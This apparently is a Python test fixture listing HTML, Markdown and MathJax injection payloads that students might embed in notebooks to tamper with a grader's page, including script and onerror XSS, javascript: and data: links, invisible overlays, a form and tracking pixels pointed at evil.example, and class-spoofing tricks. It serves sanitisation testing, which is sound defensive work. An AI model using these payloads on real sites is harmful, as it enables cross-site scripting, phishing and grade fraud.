"""What students have written, or might, to act on the page of who marks them: by what each would do."""

from __future__ import annotations

NAMES = ("00_double", "00_why")
IDS = "".join(f'<b id="{name}"></b><b id="{name}-comment"></b>' for name in NAMES)
DOT = "iVBORw0KGgo="

NOTES = {
    "one click on a sheet over the page": f'<div class="nbgrader_cell">{IDS}<div class="full-credit modal-backdrop fade"></div></div>',
    "ids of the boxes, higher up": f'<div class="nbgrader_cell">{IDS}</div>',
    "a link over the page": '<a class="modal-backdrop fade" href="https://evil.example/login">x</a>',
    "a sheet by style": '<div style="position:fixed;inset:0;z-index:99999;opacity:0">x</div>',
    "headings that become ids": "# 00_double\n\n## 00_why\n\n### 00_why-comment",
    "a form": '<form action="//evil.example"><input class="score" id="00_why"><input type=submit>'
    '<button class="full-credit">Next</button></form>',
    "addresses": "[a](https://evil.example/a) <https://evil.example/b> [c](javascript:alert(1)) [d](/formgrader/x) "
    "<a href='data:text/html,<script>alert(1)</script>'>e</a> <a href='java&#x0A;script:alert(1)'>f</a>",
    "pictures from elsewhere": "<img src='https://evil.example/pixel.png?who=marker'> ![t](https://evil.example/p2.png) "
    "![s](//evil.example/p3.png) <img src=data:image/svg+xml;base64,PHN2Zz4= onerror=alert(1)> "
    "<picture><source srcset=//evil.example/4></picture>",
    "elements that act": "<script>alert(1)</script><svg onload=alert(1)><iframe src=//evil.example></iframe><base href=//evil.example/>"
    "<meta http-equiv=refresh content='0;url=//evil.example'><style>body{display:none}</style><object data=//evil.example>",
    "mathematics": r"$\class{full-credit}{x}$ $\cssId{00_why}{y}$ $\href{https://evil.example}{z}$ $\&#99;lass{full-credit}{w}$ "
    r"$\style{position:fixed}{v}$ $\mmlToken{mi}[class='full-credit']{u}$ $$\require{html}\bbox[position:fixed]{t}$$",
    "colours of code with more": '<span class="k full-credit">x</span><div class="highlight modal-backdrop">y</div>',
}  # fmt: skip
ANSWERS = {
    "the answer is a button": '<div class="full-credit" style="padding:60px">My long and thoughtful answer. Please select it.</div>',
    "the answer is a picture": f'![x](attachment:a"onerror=alert(1).png) <img class="full-credit" src="data:image/png;base64,{DOT}">',
}
